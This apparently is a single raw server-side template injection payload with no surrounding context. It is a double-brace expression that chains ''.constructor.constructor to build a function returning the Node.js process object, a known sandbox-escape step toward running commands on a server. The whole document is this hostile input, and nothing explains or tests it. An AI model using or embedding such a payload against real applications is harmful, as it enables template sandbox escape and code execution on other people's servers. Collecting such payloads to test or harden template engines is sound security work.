select {{ ''.constructor.constructor('return process')() }}
